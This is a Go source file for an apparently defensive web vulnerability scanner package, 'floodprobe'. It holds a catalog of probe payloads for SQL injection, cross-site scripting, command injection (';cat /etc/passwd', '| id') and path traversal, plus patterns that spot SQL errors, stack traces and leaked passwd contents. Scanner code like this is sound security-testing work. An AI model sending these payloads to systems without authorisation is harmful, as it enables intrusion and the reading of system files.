package floodprobe

import (
	"regexp"
	"strings"
)

// VulnKind tags a payload with the vulnerability class it exercises.
type VulnKind string

const (
	VulnSQLi VulnKind = "sqli"
	VulnXSS  VulnKind = "xss"
	VulnCmdI VulnKind = "cmdi"
	VulnLFI  VulnKind = "lfi"
)

// EvidencePattern matches exploitation evidence in a response. Either a
// case-insensitive literal substring or a compiled regular expression.
type EvidencePattern struct {
	Substring string `json:"substring,omitempty" yaml:"substring,omitempty"`
	Regex     string `json:"regex,omitempty" yaml:"regex,omitempty"`

	compiled *regexp.Regexp
}

// Compile prepares the regex form, if any. Substring-only patterns
// compile trivially.
func (p *EvidencePattern) Compile() error {
	if p.Regex == "" {
		return nil
	}
	re, err := regexp.Compile("(?i)" + p.Regex)
	if err != nil {
		return err
	}
	p.compiled = re
	return nil
}

// Match reports whether the pattern occurs in the given text and returns
// a short description of what matched.
func (p *EvidencePattern) Match(text string) (bool, string) {
	if p.Substring != "" {
		if strings.Contains(strings.ToLower(text), strings.ToLower(p.Substring)) {
			return true, "substring:" + p.Substring
		}
	}
	if p.Regex != "" {
		re := p.compiled
		if re == nil {
			var err error
			re, err = regexp.Compile("(?i)" + p.Regex)
			if err != nil {
				return false, ""
			}
		}
		if loc := re.FindString(text); loc != "" {
			return true, "regex:" + p.Regex
		}
	}
	return false, ""
}

// Payload is a tagged injection variant carrying its own evidence
// matchers, so the prober stays closed over new vulnerability kinds.
type Payload struct {
	Kind     VulnKind          `json:"kind" yaml:"kind"`
	Literal  string            `json:"literal" yaml:"literal"`
	Evidence []EvidencePattern `json:"evidence,omitempty" yaml:"evidence,omitempty"`
}

// MatchEvidence checks all of the payload's evidence patterns against the
// response body and headers.
func (p Payload) MatchEvidence(body, headers string) (bool, string) {
	for i := range p.Evidence {
		if ok, what := p.Evidence[i].Match(body); ok {
			return true, what
		}
		if ok, what := p.Evidence[i].Match(headers); ok {
			return true, what
		}
	}
	return false, ""
}

// sqlErrorPatterns signal injectable SQL handling regardless of payload.
var sqlErrorPatterns = []EvidencePattern{
	{Substring: "sql syntax"},
	{Substring: "mysql_fetch"},
	{Substring: "unclosed quotation mark"},
	{Substring: "sqlite error"},
	{Substring: "pg_query"},
	{Substring: "ora-01756"},
	{Regex: `(mysql|mariadb|postgres(ql)?|sqlite|mssql)[^<]{0,40}(error|exception)`},
}

// diagnosticLeakPatterns signal anomalous diagnostic content in an error
// response, counted as evidence even when no payload-specific pattern hit.
var diagnosticLeakPatterns = []EvidencePattern{
	{Substring: "stack trace"},
	{Substring: "traceback (most recent call last)"},
	{Regex: `at [\w$.]+\([\w$.]+\.(java|go|rb|py):\d+\)`},
	{Regex: `(fatal|internal server) error[^<]{0,80}(line|file)`},
}

// payloadCatalog holds the built-in payload set per vulnerability kind.
// Configurations may extend or replace these per target.
var payloadCatalog = map[VulnKind][]Payload{
	VulnSQLi: {
		{Kind: VulnSQLi, Literal: `1' OR '1'='1`, Evidence: sqlErrorPatterns},
		{Kind: VulnSQLi, Literal: `1' OR '1'='1' --`, Evidence: sqlErrorPatterns},
		{Kind: VulnSQLi, Literal: `1"; SELECT * FROM users; --`, Evidence: sqlErrorPatterns},
		{Kind: VulnSQLi, Literal: `1' UNION SELECT NULL,NULL--`, Evidence: sqlErrorPatterns},
		{Kind: VulnSQLi, Literal: `1' AND SLEEP(0)--`, Evidence: sqlErrorPatterns},
	},
	VulnXSS: {
		{Kind: VulnXSS, Literal: `<script>alert(1)</script>`, Evidence: []EvidencePattern{
			{Substring: `<script>alert(1)</script>`},
		}},
		{Kind: VulnXSS, Literal: `"><script>alert(1)</script>`, Evidence: []EvidencePattern{
			{Substring: `"><script>alert(1)</script>`},
		}},
		{Kind: VulnXSS, Literal: `<img src=x onerror=alert(1)>`, Evidence: []EvidencePattern{
			{Substring: `onerror=alert(1)`},
		}},
		{Kind: VulnXSS, Literal: `<svg/onload=alert(1)>`, Evidence: []EvidencePattern{
			{Substring: `onload=alert(1)`},
		}},
	},
	VulnCmdI: {
		{Kind: VulnCmdI, Literal: `;cat /etc/passwd`, Evidence: []EvidencePattern{
			{Substring: "root:x:0:0"},
			{Regex: `\w+:x:\d+:\d+:`},
		}},
		{Kind: VulnCmdI, Literal: `| id`, Evidence: []EvidencePattern{
			{Regex: `uid=\d+\(`},
		}},
	},
	VulnLFI: {
		{Kind: VulnLFI, Literal: `../../../../etc/passwd`, Evidence: []EvidencePattern{
			{Substring: "root:x:0:0"},
		}},
		{Kind: VulnLFI, Literal: `....//....//etc/passwd`, Evidence: []EvidencePattern{
			{Substring: "root:x:0:0"},
		}},
	},
}

// BuiltinPayloads returns the catalog entries for the requested kinds, in
// catalog order. Unknown kinds are skipped.
func BuiltinPayloads(kinds ...VulnKind) []Payload {
	var out []Payload
	for _, kind := range kinds {
		out = append(out, payloadCatalog[kind]...)
	}
	return out
}

// AllVulnKinds lists the kinds with built-in payloads.
func AllVulnKinds() []VulnKind {
	return []VulnKind{VulnSQLi, VulnXSS, VulnCmdI, VulnLFI}
}
